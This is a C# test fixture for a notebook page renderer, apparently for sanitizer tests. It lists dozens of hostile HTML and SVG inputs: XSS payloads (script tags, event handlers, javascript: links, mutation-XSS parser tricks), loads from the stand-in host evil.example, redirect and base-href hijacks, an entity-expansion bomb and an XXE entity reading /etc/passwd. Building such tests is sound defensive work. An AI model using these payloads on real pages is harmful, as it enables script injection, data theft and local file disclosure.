namespace MedAnomaly.Notebooks.Tests.Pages;

/// <summary>What somebody might put into a notebook to act on its reader. Each sets <c>pwned</c>, opens a dialog, or calls evil.example.</summary>
static class Hostile
{
    const string Act = "window.pwned=1;alert(1)";

    public static readonly string[] Html =
    [
        $"<script>{Act}</script>ok",
        $"<img src=x onerror=\"{Act}\">",
        $"<img src=\"data:text/html,<script>{Act}</script>\" onload=\"{Act}\">",
        $"<a href=\"javascript:{Act}\">x</a>",
        $"<a href=\"java&#10;script:{Act}\">x</a>",
        $"<a href=\"\u0001javascript:{Act}\">x</a>",
        $"<a href=\" &#x6a;avascript:{Act}\">x</a>",
        $"<a href=\"data:text/html,<script>{Act}</script>\">x</a>",
        $"<a href=\"vbscript:{Act}\">x</a>",
        "<a href=\"//evil.example/x\" ping=\"https://evil.example/ping\">x</a>",
        $"<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
        $"<iframe src=\"javascript:parent.pwned=1\"></iframe>",
        $"<svg onload=\"{Act}\"><script>{Act}</script></svg>",
        $"<svg xmlns=\"http://www.w3.org/2000/svg\"><a xlink:href=\"javascript:{Act}\"><text y=20>x</text></a><foreignObject><body onload=\"{Act}\"></body></foreignObject><set attributeName=onmouseover to=\"{Act}\"/></svg>",
        $"<svg><animate onbegin=\"{Act}\" attributeName=x dur=1s></svg>",
        $"<svg><style><img src=x onerror=\"{Act}\"></style></svg>",
        $"<svg><image href=\"https://evil.example/x.png\"/><use href=\"https://evil.example/x.svg#a\"/></svg>",
        $"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={Act}&gt;\">",
        $"<math><annotation-xml encoding=\"text/html\"><img src=x onerror=\"{Act}\"></annotation-xml></math>",
        $"<math><mi//xlink:href=\"data:x,<script>{Act}</script>\"><mi href=\"javascript:{Act}\">x</mi></math>",
        $"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror='{Act}' src>\">",
        $"<math><mi><b><mglyph><style><!--</style><a title=\"--&gt;&lt;img src=x onerror={Act}&gt;\">",
        "<div style=\"background:url(https://evil.example/x)\">x</div>",
        $"<div style=\"width:e\\78 pression({Act})\">x</div>",
        "<div style=\"position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9\">cover</div>",
        "<div style=\"background-image:image-set('https://evil.example/y' 1x);margin:-9999px\">x</div>",
        $"<form action=\"https://evil.example\"><input name=a autofocus onfocus=\"{Act}\"><button formaction=\"javascript:{Act}\">b</button></form>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<link rel=stylesheet href=\"https://evil.example/a.css\">",
        $"<object data=\"data:text/html,<script>{Act}</script>\"></object><embed src=\"javascript:{Act}\">",
        "<base href=\"https://evil.example/\">",
        "<style>@import 'https://evil.example/a.css'; body { background: url(https://evil.example/b) }</style>",
        $"</section></main></body><script>{Act}</script>",
        $"<noscript><p title=\"</noscript><img src=x onerror={Act}>\">",
        $"<template><script>{Act}</script></template><div is=x-y onclick=\"{Act}\">x</div>",
        $"<details open ontoggle=\"{Act}\"><summary>x</summary></details><video><source onerror=\"{Act}\"></video>",
        $"<details class=interactive><summary>x</summary><iframe data-src=\"javascript:parent.pwned=1\"></iframe></details>",
        $"<img name=body><a id=location name=getElementById>x</a><h2 id=cookie>x</h2>",
        "<img src=\"https://evil.example/a.png\"><img srcset=\"https://evil.example/b.png 1x\"><video poster=\"https://evil.example/c.png\"></video>",
        $"<xmp><script>{Act}</script></xmp><plaintext><script>{Act}</script>",
        $"<select><option><script>{Act}</script></option></select><textarea autofocus onfocus=\"{Act}\"></textarea>",
        $"<p title=\"--><script>{Act}</script>\"><!--><img src=x onerror=\"{Act}\">--></p>",
    ];

    /// <summary>Drawings that are to be shown as images.</summary>
    public static readonly string[] Svg =
    [
        $"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{Act}\"><script>{Act}</script><rect width=\"9\" height=\"9\"/></svg>",
        $"<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"javascript:{Act}\"/></foreignObject><rect/></svg>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"https://evil.example/x.png\"/><use href=\"https://evil.example/x.svg#a\"/><rect fill=\"url(https://evil.example/#a)\" style=\"fill:url('https://evil.example/b')\"/></svg>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><style>@import url(https://evil.example/a.css);</style><a href=\"javascript:alert(1)\"><rect/></a><set attributeName=\"href\" to=\"javascript:alert(1)\"/></svg>",
        "<!DOCTYPE svg [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&b;</text></svg>",
        "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&x;</text></svg>",
    ];
}
